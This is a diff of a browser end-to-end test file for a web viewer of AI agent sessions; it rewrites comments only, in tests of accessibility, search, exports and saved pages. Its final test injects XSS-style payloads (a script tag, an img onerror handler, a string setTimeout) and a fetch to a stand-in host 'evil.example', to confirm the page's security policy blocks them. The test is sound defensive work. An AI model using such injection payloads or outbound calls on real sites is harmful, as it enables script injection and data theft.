@@ -1,4 +1,4 @@
-// Every view, for everybody: accessible, by keyboard, inert whatever agents write, and small.
+// Every view: accessible, usable by keyboard, inert for hostile texts, and small.
 import { readFileSync, writeFileSync } from "node:fs";
 import { createServer } from "node:http";
 import { gzipSync } from "node:zlib";
@@ -61,7 +61,7 @@ it.each(VIEWS.flatMap(([name, path]) => [["dark", name, path] as const, ["light"
       expect(await findings(seen)).toEqual([]);
       // Nothing is wider than the screen.
       expect(await seen.page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
-      // A session that is not there is asked for all the same.
+      // A session that does not exist is requested as well.
       seen.wrong = seen.wrong.filter((words) => !(["/s/none", "/no/such/place"].includes(path) && words.includes("404")));
       isQuiet(seen);
       await seen.context.close();
@@ -78,12 +78,12 @@ it("is used by keyboard alone", async () => {
   for (const { does } of KEYS) await dialog.getByText(does, { exact: true }).waitFor();
   await page.keyboard.press("Escape");
   await dialog.waitFor({ state: "hidden" });
-  // A timeline comes late: what there is to zoom is known without it.
+  // The timeline may arrive late: zooming works without it.
   await page.route("**/timeline*", async (route) => {
     await new Promise((resolve) => setTimeout(resolve, 3000));
     await route.continue();
   });
-  // The first row is a session, the one behind it its main agent, once it is unfolded.
+  // The first row is a session; once it is unfolded, the next one is its main agent.
   await page.keyboard.press("j");
   await page.keyboard.press("ArrowRight");
   await page.keyboard.press("j");
@@ -128,7 +128,7 @@ it("lets a browser in for a code, where callers show a token", async () => {
     await page.getByRole("textbox", { name: "the address" }).fill(await code());
     await page.getByRole("button", { name: "Sign in" }).click();
     await page.waitForSelector('[data-testid="agent-row"]');
-    // Another browser, by the address alone, of which the code does not stay.
+    // Another browser signs in by the address alone, and the code is removed from the address.
     await context.clearCookies();
     await page.goto("about:blank");
     await page.goto(await code());
@@ -154,7 +154,7 @@ it("finds words by agent, and leads to the agent", async () => {
   expect(await page.locator(".search .count").textContent()).toContain(`${hits.total} passages`);
   // The session is named by its title; code keeps its lines.
   expect(await page.locator(".search h3").first().textContent()).toContain(hits.hits[0]?.session_title?.slice(0, 40));
-  // A choice narrows it, stands in the address, and is no step of its own.
+  // A choice narrows it and is in the address, without a history entry.
   const tool = hits.facets.tools[0];
   const chip = page.getByRole("group", { name: "narrow the search" }).getByRole("button", { name: new RegExp(`^${tool?.name} ?${tool?.hits}$`) });
   await chip.click();
@@ -168,7 +168,7 @@ it("finds words by agent, and leads to the agent", async () => {
   expect(await seen.page.locator("mark").first().textContent()).toMatch(/checkout/i);
   await first.click();
   await seen.page.waitForSelector("aside .top > h2");
-  // A search is one step: Escape leads back to what was shown before it.
+  // A search is one history entry: Escape goes back to what was shown before it.
   const before = seen.page.url();
   await seen.page.keyboard.press("/");
   await seen.page.keyboard.type("checkout");
@@ -236,7 +236,7 @@ it("saves what it shows: trace, table, picture, and a page that needs nobody", a
   };
   expect(JSON.parse(readFileSync(await saved("Trace (JSON)"), "utf8"))).toHaveProperty("hierarchy");
   expect(readFileSync(await saved("Agents (CSV)"), "utf8").split("\r\n").length).toBeGreaterThan(4);
-  // A trace of Perfetto is a message of packets; its strings are in it as they are.
+  // A Perfetto trace is a protobuf message; strings are in it unchanged.
   const perfetto = readFileSync(await saved("Timeline for the Perfetto UI"));
   expect(perfetto[0]).toBe(0x0a);
   const [, some] = (await server.get<Tree>(`/api/v1/sessions/${recording.session}/tree`)).agents;
@@ -249,7 +249,7 @@ it("saves what it shows: trace, table, picture, and a page that needs nobody", a
   const { summary } = await server.get<Tree>(`/api/v1/sessions/${recording.session}/tree`);
   expect(picture).toContain(`>${totals(summary)}</text>`);
   expect(totals(summary)).toMatch(/^\d+ agents · .*s · \$[\d.]+ · [\d.]+× parallel · subscope$/);
-  // Nothing of it is over anything else, or beyond its edge.
+  // Nothing in it overlaps or is beyond its edge.
   const overlapping = await page.evaluate((drawn) => {
     const place = document.createElement("div");
     document.body.append(place);
@@ -295,7 +295,7 @@ it("saves what it shows: trace, table, picture, and a page that needs nobody", a
 
 it("shows every view of a saved page that is opened from a disk", async () => {
   const answer = await fetch(`${server.url}/api/v1/sessions/${recording.session}/export?as=html`);
-  // A name that an address has to spell otherwise.
+  // A name that has to be escaped in an address.
   const file = join(server.folder, "saved #1 ü%20.html");
   writeFileSync(file, await answer.text());
   const address = pathToFileURL(file).href;
@@ -341,7 +341,7 @@ it("shows every view of a saved page that is opened from a disk", async () => {
   await view(summary);
   await view(tree);
   await isTree();
-  // What is on show stands in the address, and is there again when the file is opened anew.
+  // The address has the state of the view, which is restored when the file is opened again.
   await page.locator(row(agent?.id ?? "")).locator("a").click();
   await page.waitForSelector("aside .top > h2");
   const heading = await page.locator("aside .top > h2").textContent();
@@ -349,7 +349,7 @@ it("shows every view of a saved page that is opened from a disk", async () => {
   await page.waitForSelector("aside .top > h2");
   expect(await page.locator("aside .top > h2").textContent()).toBe(heading);
   expect(page.url().startsWith(`${address}#/s/`)).toBe(true);
-  // What only a hub can do is not offered.
+  // Features that need a hub are not offered.
   expect(await page.getByRole("search").count()).toBe(0);
   expect(new Set(asked.map((url) => url.split("#")[0]))).toEqual(new Set([address]));
   expect(asked.length).toBe(2);
@@ -440,7 +440,7 @@ it("makes whatever agents write inert", async () => {
     page.on("dialog", () => seen?.wrong.push("a dialog"));
     await page.waitForSelector('[data-testid="agent-row"], .feed .line, .figures, [data-testid="pair"], [data-testid="hit"]');
     await page.waitForTimeout(300);
-    // Everything that can be opened is.
+    // Open everything that can be opened.
     const folded = page.locator('[aria-expanded="false"]:visible').first();
     for (let step = 0; step < 60 && (await folded.count()) > 0; step++) await folded.click({ timeout: 2000 }).catch(() => null);
     const text = await page.evaluate(() => document.body.textContent ?? "");
@@ -464,7 +464,7 @@ it("has a policy that stops what would get in all the same", async () => {
     script.textContent = "globalThis.hacked = 1";
     document.body.append(script);
     document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='globalThis.hacked = 2'>");
-    // What a debugger evaluates may evaluate; what a page starts later may not.
+    // The policy does not apply to code that a debugger evaluates, only to what the page itself starts later.
     setTimeout("globalThis.hacked = 3", 0);
   });
   const leaks = await page.evaluate(() => fetch("https://evil.example/").then(() => "sent", () => "stopped"));
@@ -472,7 +472,7 @@ it("has a policy that stops what would get in all the same", async () => {
   expect(leaks).toBe("stopped");
   expect(await page.evaluate(() => (globalThis as { hacked?: number }).hacked)).toBeUndefined();
   expect(wrong.some((words) => words.includes("Content Security Policy"))).toBe(true);
-  // Nobody shows it within another page.
+  // The page cannot be embedded in another one.
   const other = createServer((_, answer) => answer.setHeader("content-type", "text/html").end(`<iframe src="${server.url}/"></iframe>`));
   await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
   const address = other.address() as { port: number };
